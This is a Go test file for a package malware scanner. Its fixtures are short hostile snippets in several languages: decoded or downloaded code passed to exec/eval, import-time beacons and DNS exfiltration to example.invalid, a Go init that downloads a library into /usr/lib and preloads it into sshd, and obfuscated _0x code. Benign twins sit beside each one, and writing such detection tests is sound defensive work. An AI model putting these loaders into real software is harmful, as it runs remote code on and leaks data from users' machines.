package codescan

import (
	"strings"
	"testing"

	"github.com/pkgward/pkgward/internal/record"
)

// TestDataFlow covers the per-file data-flow pass, the module-scope
// network calls of JavaScript, Go DLL drops and the _0x density: each
// malicious case must reach its grade, each benign twin must keep the rule
// below low (or at most the grade given).
func TestDataFlow(t *testing.T) {
	const quiet = record.Severity(-1)
	pj := `{"name":"acme","version":"1.0.0","main":"index.js"}`
	cases := []struct {
		name  string
		files map[string]string
		rule  string
		want  record.Severity
		most  record.Severity
	}{
		// decoded, then run later in the file
		{"python decoded then exec", map[string]string{"acme/run.py": "import base64\n\nPAYLOAD = 'cHJpbnQoImRlZmFuZ2VkIik='\n\ndef go():\n    code = base64.b64decode(PAYLOAD)\n    src = code.decode('utf-8')\n    exec(src)\n"}, "eval-decoded", record.Medium, record.Medium},
		{"python decoded then os.system at import with network", map[string]string{"acme/__init__.py": "import base64, os, urllib.request\nurllib.request.urlopen(U)\ncmd = codecs.decode(BLOB, 'rot13')\nos.system(cmd)\n"}, "eval-decoded", record.High, 0},
		{"python decoded config printed", map[string]string{"acme/cfg.py": "import base64, json\n\ndef load(s):\n    raw = base64.b64decode(s)\n    cfg = json.loads(raw)\n    print(raw)\n    exec_later = cfg\n    return cfg\n"}, "eval-decoded", quiet, 0},
		{"python decoded, reassigned, then run", map[string]string{"acme/x.py": "import base64, subprocess\nargs = base64.b64decode(s)\nargs = ['git', 'status']\nsubprocess.run(args)\n"}, "eval-decoded", quiet, 0},
		{"js decoded then eval", map[string]string{"lib/x.js": "const enc = 'Y29uc29sZS5sb2coImRlZmFuZ2VkIik=';\nconst src = Buffer.from(enc, 'base64').toString();\n\nfunction run() {\n  eval(src);\n}\nrun();\n"}, "eval-decoded", record.Medium, record.Medium},
		{"js atob then new Function", map[string]string{"lib/x.js": "var s = atob(k);\nvar f = new Function(s);\nf();\n"}, "eval-decoded", record.Medium, 0},
		{"js decoded config printed", map[string]string{"lib/x.js": "const raw = Buffer.from(process.env.CFG, 'base64').toString();\nconst cfg = JSON.parse(raw);\nconsole.log(raw, cfg);\nconst m = /x(\\d+)/.exec(raw);\n"}, "eval-decoded", quiet, 0},
		{"ruby decoded then eval", map[string]string{"lib/acme/x.rb": "require 'base64'\ncode = Base64.decode64(BLOB)\neval code\n"}, "eval-decoded", record.Medium, 0},
		{"ruby decoded config printed", map[string]string{"lib/acme/x.rb": "require 'base64'\nraw = Base64.decode64(ENV['CFG'])\nputs raw\nsystem('make', 'all')\n"}, "eval-decoded", quiet, 0},
		{"powershell decoded then iex", map[string]string{"tools/x.ps1": "$b = [System.Convert]::FromBase64String($blob)\n$s = [System.Text.Encoding]::UTF8.GetString($b)\nInvoke-Expression $s\n"}, "eval-decoded", record.Medium, 0},
		{"powershell decoded piped to iex", map[string]string{"tools/x.ps1": "$s = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($blob))\n$s | iex\n"}, "eval-decoded", record.Medium, 0},
		{"powershell decoded printed", map[string]string{"tools/x.ps1": "$s = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($blob))\nWrite-Host $s\nInvoke-Expression 'Get-Date'\n"}, "eval-decoded", quiet, 0},

		// fetched, then run later in the file
		{"python response then exec", map[string]string{"acme/x.py": "import requests\n\ndef boot():\n    r = requests.get(U, timeout=5)\n    exec(r.text)\n"}, "download-exec", record.Medium, record.Medium},
		{"python urlopen read then exec at import", map[string]string{"acme/__init__.py": "import urllib.request\nbody = urllib.request.urlopen(U).read()\nexec(body)\n"}, "download-exec", record.High, 0},
		{"python with urlopen as f then exec", map[string]string{"acme/x.py": "from urllib.request import urlopen\nwith urlopen(U) as f:\n    exec(f.read())\n"}, "download-exec", record.Medium, 0},
		{"python response parsed as json", map[string]string{"acme/x.py": "import requests, subprocess\nr = requests.get(U)\ndata = r.json()\nprint(data['version'])\nsubprocess.run(['git', 'fetch'])\n"}, "download-exec", quiet, 0},
		{"js fetch text then eval", map[string]string{"lib/x.js": "async function boot() {\n  const res = await fetch(U);\n  const code = await res.text();\n  eval(code);\n}\n"}, "download-exec", record.Medium, record.Medium},
		{"js fetch then chain to eval", map[string]string{"lib/x.js": "fetch(U).then(r => r.text()).then(t => eval(t));\n"}, "download-exec", record.Medium, 0},
		{"js https stream then exec", map[string]string{"lib/x.js": "const { exec } = require('child_process');\nhttps.get(U, (res) => {\n  let d = '';\n  res.on('data', (c) => { d += c; });\n  res.on('end', () => { exec(d); });\n});\n"}, "download-exec", record.Medium, 0},
		{"js fetch json parsed", map[string]string{"lib/x.js": "const res = await fetch(U);\nconst data = await res.json();\nconsole.log(data);\nconst out = execSync('git rev-parse HEAD');\n"}, "download-exec", quiet, 0},
		{"ruby response then eval", map[string]string{"lib/acme.rb": "require 'net/http'\nbody = Net::HTTP.get(URI(U))\neval(body)\n"}, "download-exec", record.High, 0},
		{"ruby response parsed", map[string]string{"lib/acme/x/y/z.rb": "require 'net/http'\nbody = Net::HTTP.get(URI(U))\ninfo = JSON.parse(body)\nputs info\nsystem('make')\n"}, "download-exec", quiet, 0},
		{"powershell download then iex", map[string]string{"tools/x.ps1": "$c = (New-Object Net.WebClient).DownloadString($u)\niex $c\n"}, "download-exec", record.Medium, 0},
		{"powershell rest json", map[string]string{"tools/x.ps1": "$r = Invoke-RestMethod -Uri $u | ConvertFrom-Json\nWrite-Host $r.version\n"}, "download-exec", quiet, 0},

		// Go
		{"go decoded then exec", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"encoding/base64\"\n\t\"os/exec\"\n)\n\nfunc Run(s string) {\n\tb, _ := base64.StdEncoding.DecodeString(s)\n\tcmd := string(b)\n\texec.Command(\"sh\", \"-c\", cmd).Run()\n}\n"}, "go-exec-payload", record.Medium, record.Medium},
		{"go download read then exec at init", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tresp, err := http.Get(u)\n\tif err != nil {\n\t\treturn\n\t}\n\tdefer resp.Body.Close()\n\tbody, _ := io.ReadAll(resp.Body)\n\tprog := string(body)\n\texec.Command(\"/bin/sh\", \"-c\", prog).Start()\n}\n"}, "go-exec-payload", record.Critical, 0},
		{"go decoded config printed", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"encoding/base64\"\n\t\"fmt\"\n\t\"os/exec\"\n)\n\nfunc Show(s string) error {\n\tb, err := base64.StdEncoding.DecodeString(s)\n\tif err != nil {\n\t\treturn err\n\t}\n\tfmt.Println(string(b))\n\treturn exec.Command(\"git\", \"status\").Run()\n}\n"}, "go-exec-payload", quiet, 0},
		{"go fetched json parsed", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"encoding/json\"\n\t\"io\"\n\t\"net/http\"\n\t\"os/exec\"\n)\n\nfunc Check(u string) error {\n\tresp, err := http.Get(u)\n\tif err != nil {\n\t\treturn err\n\t}\n\tb, _ := io.ReadAll(resp.Body)\n\tvar v struct{ Tag string }\n\terr = json.Unmarshal(b, &v)\n\treturn exec.Command(\"git\", \"checkout\", \"main\").Run()\n}\n"}, "go-exec-payload", quiet, 0},

		{"go fetched version passed to a constant program", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os/exec\"\n\t\"strings\"\n)\n\nfunc Update() error {\n\tresp, err := http.Get(latestURL)\n\tif err != nil {\n\t\treturn err\n\t}\n\tb, _ := io.ReadAll(resp.Body)\n\tv := strings.TrimSpace(string(b))\n\treturn exec.Command(\"go\", \"install\", \"example.invalid/tool@\"+v).Run()\n}\n"}, "go-exec-payload", quiet, 0},
		{"python fetched version passed to pip", map[string]string{"acme/upd.py": "import requests, subprocess, sys\nlatest = requests.get(U).text.strip()\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'acme==' + latest])\nos.system('pip install acme==' + latest)\n"}, "download-exec", quiet, 0},
		{"python fetched script run by a shell", map[string]string{"acme/upd.py": "import requests, subprocess\nscript = requests.get(U).text\nsubprocess.run(['bash', '-c', script])\n"}, "download-exec", record.Medium, 0},
		{"js fetched program spawned", map[string]string{"lib/x.js": "const { spawn } = require('child_process');\nconst res = await fetch(U);\nconst code = await res.text();\nspawn('node', ['-e', code]);\n"}, "download-exec", record.Medium, 0},

		// network-on-import in JavaScript
		{"js main module beacons at load", map[string]string{"package.json": pj, "index.js": "const https = require('https');\nconst os = require('os');\nhttps.get('https://example.invalid/b?h=' + os.hostname());\nmodule.exports = {};\n"}, "network-on-import", record.Medium, record.Medium},
		{"js required module beacons and runs", map[string]string{"package.json": pj, "index.js": "require('./lib/setup');\nmodule.exports = require('./lib/api');\n", "lib/setup.js": "const { execSync } = require('child_process');\nfetch('https://example.invalid/x').then((r) => r.text()).then((t) => execSync(t));\n", "lib/api.js": "exports.x = 1;\n"}, "network-on-import", record.High, 0},
		{"js dns with data at load", map[string]string{"package.json": pj, "index.js": "const dns = require('dns');\ndns.lookup(Buffer.from(process.env.HOME).toString('hex') + '.example.invalid', () => {});\n"}, "network-on-import", record.Medium, 0},
		{"js main module beacons from an async IIFE", map[string]string{"package.json": pj, "index.js": "(async () => {\n  const r = await fetch('https://example.invalid/p');\n  require('child_process').execSync(await r.text());\n})();\n"}, "network-on-import", record.High, 0},
		{"js main module beacons from a function IIFE", map[string]string{"package.json": pj, "index.js": "module.exports = (function () {\n  https.get('https://example.invalid/b?h=' + os.hostname());\n  return {};\n})();\n"}, "network-on-import", record.Medium, 0},
		{"js UMD wrapper with a client inside", map[string]string{"package.json": pj, "index.js": "(function (root, factory) {\n  module.exports = factory();\n})(this, function () {\n  function get(u) { return fetch(u); }\n  return { get: get };\n});\n"}, "network-on-import", quiet, 0},
		{"js client inside functions", map[string]string{"package.json": pj, "index.js": "const https = require('https');\nexports.get = (u) => https.get(u);\nfunction post(u, b) {\n  return fetch(u, { method: 'POST', body: b });\n}\nclass Client { ping() { return fetch(this.u); } }\nexports.post = post;\n"}, "network-on-import", quiet, 0},
		{"js dns of a constant name", map[string]string{"package.json": pj, "index.js": "const dns = require('dns');\ndns.lookup('localhost', (e, a) => { exports.local = a; });\n"}, "network-on-import", quiet, 0},
		{"js module-scope call in an ordinary file", map[string]string{"package.json": pj, "index.js": "exports.x = 1;\n", "scripts/release.js": "fetch('https://example.invalid/x');\n"}, "network-on-import", quiet, 0},
		{"js lazy require inside a function", map[string]string{"package.json": pj, "index.js": "exports.load = () => require('./lib/net');\n", "lib/net.js": "fetch('https://example.invalid/x');\n"}, "network-on-import", quiet, 0},

		// DLL drop in Go
		{"go drops a dll beside the executable and loads it", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"os\"\n\t\"path/filepath\"\n\t\"syscall\"\n)\n\nfunc Plant(b []byte) {\n\texe, _ := os.Executable()\n\tp := filepath.Join(filepath.Dir(exe), \"version.dll\")\n\tos.WriteFile(p, b, 0o644)\n\tsyscall.LoadDLL(p)\n}\n"}, "native-loader-abuse", record.Medium, record.Medium},
		{"go downloads a .so into /usr/lib and preloads it at init", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n)\n\nfunc init() {\n\tr, _ := http.Get(u)\n\tf, _ := os.Create(\"/usr/lib/libacme.so\")\n\tio.Copy(f, r.Body)\n\tc := exec.Command(\"sshd\")\n\tc.Env = append(os.Environ(), \"LD_PRELOAD=/usr/lib/libacme.so\")\n\tc.Start()\n}\n"}, "native-loader-abuse", record.High, 0},
		{"go test drops a dll", map[string]string{"x/x_test.go": "package x\n\nimport (\n\t\"os\"\n\t\"path/filepath\"\n\t\"syscall\"\n\t\"testing\"\n)\n\nfunc TestLoad(t *testing.T) {\n\texe, _ := os.Executable()\n\tp := filepath.Join(filepath.Dir(exe), \"fake.dll\")\n\tos.WriteFile(p, nil, 0o644)\n\tsyscall.LoadDLL(p)\n}\n"}, "native-loader-abuse", quiet, 0},
		{"go loads a system dll", map[string]string{"x/x.go": "package x\n\nimport \"golang.org/x/sys/windows\"\n\nvar mod = windows.NewLazySystemDLL(\"version.dll\")\n"}, "native-loader-abuse", quiet, 0},
		{"go writes a report beside the executable", map[string]string{"x/x.go": "package x\n\nimport (\n\t\"os\"\n\t\"os/exec\"\n\t\"path/filepath\"\n)\n\nfunc Save(b []byte) error {\n\texe, _ := os.Executable()\n\tif err := os.WriteFile(filepath.Join(filepath.Dir(exe), \"report.txt\"), b, 0o644); err != nil {\n\t\treturn err\n\t}\n\treturn exec.Command(\"notepad\", \"report.txt\").Run()\n}\n"}, "native-loader-abuse", quiet, 0},

		// _0x density
		{"short obfuscated payload", map[string]string{"lib/x.js": "var _0x1f2e=['log','defanged'];var _0x3a4b=function(_0x5c6d,_0x7e8f){_0x5c6d=_0x5c6d-0x0;return _0x1f2e[_0x5c6d];};console[_0x3a4b('0x0')](_0x3a4b('0x1'));function _0x9a0b(_0x1c2d){return _0x1c2d;}\n"}, "obfuscator-identifiers", record.Medium, record.Medium},
		{"large bundle with a few hex-like names", map[string]string{"dist/bundle.js": strings.Repeat("function render(state, props) { return h('div', { className: props.name }, state.items.map(item => h('li', null, item.label))); }\n", 2000) + strings.Repeat("var _0xa1b2 = 1, _0xc3d4 = 2, _0xe5f6 = 3, _0x1a2b = 4, _0x3c4d = 5, _0x5e6f = 6, _0x7a8b = 7;\n", 8)}, "obfuscator-identifiers", quiet, 0},
		{"obfuscated payload appended to a large bundle", map[string]string{"dist/bundle.js": strings.Repeat("function render(state, props) { return h('div', { className: props.name }, state.items.map(item => h('li', null, item.label))); }\n", 2000) + strings.Repeat("var _0x1f2e=['log'];var _0x3a4b=function(_0x5c6d,_0x7e8f){_0x5c6d=_0x5c6d-0x0;return _0x1f2e[_0x5c6d];};function _0x9a0b(_0x1c2d){return _0x1c2d;}\n", 200)}, "obfuscator-identifiers", record.Medium, 0},
	}
	rs := DefaultRules()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := Scan(treeOf(c.files), rs)
			checkGrade(t, got, c.rule, c.want, c.most)
		})
	}
}

// TestDataFlowEvidence checks that a flow finding names the variable and
// the line it was assigned on.
func TestDataFlowEvidence(t *testing.T) {
	got := Scan(treeOf(map[string]string{"acme/x.py": "import base64\n\nx = 1\npayload = base64.b64decode(B)\nexec(payload)\n"}), nil)
	for _, f := range got {
		if f.Rule != "eval-decoded" {
			continue
		}
		if f.Evidence["variable"] != "payload" || f.Evidence["assigned_line"] != 4 || f.Evidence["line"] != 5 {
			t.Errorf("evidence %v", f.Evidence)
		}
		return
	}
	t.Fatalf("no eval-decoded finding%s", describe(got))
}
